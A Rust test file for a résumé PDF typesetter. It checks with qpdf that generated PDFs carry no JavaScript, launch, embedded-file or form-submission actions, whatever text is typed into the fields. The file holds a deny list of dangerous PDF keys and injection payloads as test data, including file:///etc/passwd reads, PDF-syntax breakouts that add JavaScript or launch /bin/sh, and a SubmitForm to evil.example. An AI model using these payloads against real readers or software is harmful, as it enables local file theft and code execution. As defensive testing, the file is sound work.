//! What a PDF is made of, as qpdf reads it: nothing that a reader would run, open or send, and links with the schemes that
//! links may have.
//!
//! qpdf lists all objects, those in compressed streams too, and tells names (`/JS`) from texts that look like them.

use super::{HOSTILE, margin, plain, sheets, start, stored};
use serde_json::Value;
use std::process::Command;
use vitae::domain::sheet::{Block, Run, Sheet, SheetEntry};

/// What nobody may bring a reader to do or to keep. As keys or as kinds: no name of a PDF of ours is one of these.
const FORBIDDEN: [&str; 20] = [
    "/AA",
    "/AF",
    "/AcroForm",
    "/EF",
    "/EmbeddedFile",
    "/EmbeddedFiles",
    "/FileAttachment",
    "/Filespec",
    "/GoToE",
    "/GoToR",
    "/ImportData",
    "/JS",
    "/JavaScript",
    "/Launch",
    "/Movie",
    "/Rendition",
    "/RichMedia",
    "/Sound",
    "/SubmitForm",
    "/XFA",
];

/// What a click may do: lead to a page elsewhere, or to another place in the same document.
const ACTIONS: [&str; 2] = ["/URI", "/GoTo"];

/// Text that is a program, or an end of what it stands in, to somebody.
const PROGRAMS: [&str; 12] = [
    "#read(\"/etc/passwd\")",
    "#link(\"javascript:app.alert(1)\")[x]",
    "#pdf.attach(\"/etc/passwd\")",
    "#pdf.embed(\"/etc/passwd\")",
    "javascript:app.alert(1)",
    "file:///etc/passwd",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    ") /OpenAction << /S /JavaScript /JS (app.alert(1)) >> (",
    ">> /AA << /O << /S /Launch /F (/bin/sh) >> >> <<",
    "endstream endobj 1 0 obj << /S /SubmitForm /F (https://evil.example) >> endobj",
    "\\) /URI (file:///etc/passwd) \\(",
];

/// All objects of a PDF.
fn objects(pdf: &[u8]) -> Value {
    let (_folder, path) = stored(pdf);
    let output =
        Command::new("qpdf").args(["--json=2", "--json-key=qpdf"]).arg(path).output().expect("qpdf is installed");
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let json: Value = serde_json::from_slice(&output.stdout).expect("JSON");
    json["qpdf"][1].clone()
}

/// A text as qpdf writes it: `u:` and the text, or `b:` and its bytes.
fn text(value: &Value) -> &str {
    let written = value.as_str().unwrap_or_default();
    written.strip_prefix("u:").unwrap_or(written)
}

/// What is found in objects.
#[derive(Default)]
struct Found {
    links: Vec<String>,
    problems: Vec<String>,
}

impl Found {
    fn of(pdf: &[u8]) -> Self {
        let mut found = Self::default();
        found.walk(&objects(pdf));
        found
    }

    fn walk(&mut self, value: &Value) {
        match value {
            Value::Object(fields) => {
                for (key, field) in fields {
                    self.name(key);
                    self.field(key, field);
                    self.walk(field);
                }
                if fields.get("/Type").is_some_and(|kind| kind == "/Action") {
                    self.action(fields.get("/S"));
                }
            }
            Value::Array(items) => items.iter().for_each(|item| self.walk(item)),
            Value::String(written) => self.name(written),
            Value::Null | Value::Bool(_) | Value::Number(_) => {}
        }
    }

    fn name(&mut self, name: &str) {
        if FORBIDDEN.contains(&name) {
            self.problems.push(name.into());
        }
    }

    fn field(&mut self, key: &str, field: &Value) {
        match key {
            "/URI" => {
                let link = text(field);
                if !["http:", "https:", "mailto:", "tel:"].iter().any(|scheme| begins_with(link, scheme)) {
                    self.problems.push(format!("/URI {link}"));
                }
                self.links.push(link.into());
            }
            // That of a link need not say that it is one. (What an element of the structure has there is of no kind.)
            "/A" if field.get("/S").is_some() => self.action(field.get("/S")),
            // A place in the document is an array; anything else does something, or refers to what does.
            "/OpenAction" if !field.is_array() => self.problems.push(format!("/OpenAction {field}")),
            _ => {}
        }
    }

    fn action(&mut self, kind: Option<&Value>) {
        if !kind.and_then(Value::as_str).is_some_and(|kind| ACTIONS.contains(&kind)) {
            self.problems.push(format!("an action {kind:?}"));
        }
    }
}

fn begins_with(link: &str, scheme: &str) -> bool {
    link.get(..scheme.len()).is_some_and(|begin| begin.eq_ignore_ascii_case(scheme))
}

/// A sheet with these texts in all its fields, in turn, from the one of this number on. Of its contacts the telephone, the
/// address and the page lead where they did.
fn sheet_with(texts: &[&str], first: usize) -> Sheet {
    let mut texts = texts.iter().copied().cycle().skip(first);
    let mut next = || texts.next().expect("they have no end").to_owned();
    let mut sheet = sheets::complete();
    (sheet.name, sheet.headline, sheet.contact_title) = (next(), next(), next());
    for (index, contact) in sheet.contacts.iter_mut().enumerate() {
        (contact.text, contact.label) = (next(), next());
        if !(1..4).contains(&index) {
            contact.href = next();
        }
    }
    for section in &mut sheet.sections {
        (section.title, section.label) = (next(), next());
        section.text.iter_mut().for_each(|block| fill_block(block, &mut next));
        section.entries.iter_mut().for_each(|entry| fill_entry(entry, &mut next));
    }
    sheet
}

fn fill_entry(entry: &mut SheetEntry, next: &mut impl FnMut() -> String) {
    (entry.label, entry.title, entry.href, entry.subtitle) = (next(), next(), next(), next());
    (entry.place, entry.dates, entry.level, entry.keywords) = (next(), next(), next(), next());
    entry.text.iter_mut().for_each(|block| fill_block(block, next));
    for role in &mut entry.roles {
        (role.label, role.title, role.place, role.dates) = (next(), next(), next(), next());
        role.text.iter_mut().for_each(|block| fill_block(block, next));
        role.bullets.iter_mut().for_each(|bullet| fill_runs(&mut bullet.runs, next));
    }
    entry.bullets.iter_mut().for_each(|bullet| fill_runs(&mut bullet.runs, next));
}

fn fill_block(block: &mut Block, next: &mut impl FnMut() -> String) {
    match block {
        Block::Paragraph { runs } => fill_runs(runs, next),
        Block::List { items } => items.iter_mut().for_each(|runs| fill_runs(runs, next)),
    }
}

fn fill_runs(runs: &mut [Run], next: &mut impl FnMut() -> String) {
    for run in runs {
        (run.t, run.href) = (next(), next());
    }
}

#[tokio::test]
async fn a_pdf_does_nothing_but_lead_to_pages_whatever_is_typed() {
    let typesetter = start(1);
    let texts: Vec<&str> = PROGRAMS.into_iter().chain(HOSTILE.split('|')).collect();
    // Each field has each text once. Two columns are set every other time.
    for first in 0..texts.len() {
        let design = if first % 2 == 0 { plain() } else { margin() };
        let pdf = typesetter.pdf(1, &sheet_with(&texts, first), &design, super::WHEN).await;
        let found = Found::of(&pdf.expect("hostile text is text").bytes);
        assert_eq!(found.problems, Vec::<String>::new(), "from text {first} on");
        for link in ["tel:5551234567", "mailto:jane.developer@example.com", "https://janedeveloper.com"] {
            assert!(found.links.iter().any(|found| found == link), "{link} is not in {:?}", found.links);
        }
    }
}

/// A PDF with one object more than it needs, and a catalogue that says this.
fn pdf_with(catalogue: &str, object: &str) -> Vec<u8> {
    let objects = [
        format!("<< /Type /Catalog /Pages 2 0 R {catalogue} >>"),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".into(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Annots [4 0 R] >>".into(),
        object.into(),
    ];
    let mut pdf = String::from("%PDF-1.7\n");
    let mut table = String::from("0000000000 65535 f \n");
    for (number, object) in (1..).zip(&objects) {
        table.extend([format!("{:010} 00000 n \n", pdf.len())]);
        pdf.extend([format!("{number} 0 obj\n{object}\nendobj\n")]);
    }
    let at = pdf.len();
    format!("{pdf}xref\n0 5\n{table}trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n{at}\n%%EOF\n").into_bytes()
}

/// What the test before this one would see if there were anything.
#[test]
fn what_a_pdf_must_not_do_is_found_in_those_that_do_it() {
    let link =
        |action: &str| format!("<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /Type /Action {action} >> >>");
    let good = link("/S /URI /URI (https://example.org/)");
    let found = Found::of(&pdf_with("/OpenAction [3 0 R /Fit]", &good));
    assert_eq!((found.links, found.problems), (vec!["https://example.org/".into()], vec![]));
    let names = link("/S /URI /URI (https://example.org/?/JavaScript) /Contents (/JS /Launch)");
    assert_eq!(Found::of(&pdf_with("", &names)).problems, Vec::<String>::new(), "texts are no names");
    for action in [
        "/S /URI /URI (javascript:app.alert\\(1\\))",
        "/S /URI /URI (file:///etc/passwd)",
        "/S /URI /URI <FF00>",
        "/S /JavaScript /JS (app.alert\\(1\\))",
        "/S /Launch /F (/bin/sh)",
        "/S /SubmitForm /F (https://evil.example/)",
        "/S /GoToR /F (other.pdf) /D [0 /Fit]",
        "/S /Named /N /Print",
    ] {
        assert_ne!(Found::of(&pdf_with("", &link(action))).problems, Vec::<String>::new(), "{action}");
    }
    for catalogue in [
        "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
        "/OpenAction 4 0 R",
        "/AA << /WC << /S /URI /URI (https://example.org/) >> >>",
        "/Names << /EmbeddedFiles << /Names [] >> >>",
        "/AcroForm << /Fields [] >>",
    ] {
        assert_ne!(Found::of(&pdf_with(catalogue, &good)).problems, Vec::<String>::new(), "{catalogue}");
    }
}
